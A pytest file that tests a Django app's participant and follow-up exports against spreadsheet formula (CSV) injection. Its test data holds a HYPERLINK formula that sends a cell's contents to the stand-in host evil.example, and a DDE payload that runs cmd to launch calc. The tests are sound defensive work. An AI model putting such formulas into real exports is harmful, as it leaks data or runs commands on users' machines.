"""Exports never carry live formulas (OWASP CSV injection): names typed as formulas come out as text."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from core.spreadsheets import csv_cell
from secretariat.exports import export_participants
from secretariat.reports import followup_xlsx
from tests.factories import CommitmentFactory, DelegationFactory, MeetingFactory, ParticipantFactory, PersonFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1-555", "'+1-555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Aigerim", "Aigerim"),
        ("", ""),
        (7, 7),
    ],
)
def test_csv_cell_escapes_formula_prefixes(value, expected):
    assert csv_cell(value) == expected


@pytest.fixture
def evil_meeting():
    meeting = MeetingFactory()
    delegation = DelegationFactory(meeting=meeting)
    ParticipantFactory(
        delegation=delegation, person=PersonFactory(given_name_en=EVIL, family_name_en="@cmd|' /C calc'!A0")
    )
    return meeting


def test_csv_export_escapes_formulas(evil_meeting):
    content = export_participants(meeting=evil_meeting, file_format="csv", language="en").decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _xml_of_sheets(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_xlsx_export_writes_formulas_as_text(evil_meeting):
    content = export_participants(meeting=evil_meeting, file_format="xlsx", language="en")

    assert "<f>" not in _xml_of_sheets(content)  # no formula element anywhere
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    evil = next(cell for cell in cells if cell.value == EVIL)
    assert evil.data_type == "s"
    assert evil.quotePrefix
    assert all(cell.data_type != "f" for cell in cells)


def test_followup_xlsx_writes_formulas_as_text():
    meeting = MeetingFactory()
    CommitmentFactory(reference="=1+1", title_en=EVIL, agreed_at=meeting)

    content = followup_xlsx(meeting, "en")

    assert "<f>" not in _xml_of_sheets(content)
    workbook = load_workbook(io.BytesIO(content))
    values = {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert values[EVIL].data_type == "s"
    assert values["=1+1"].data_type == "s"
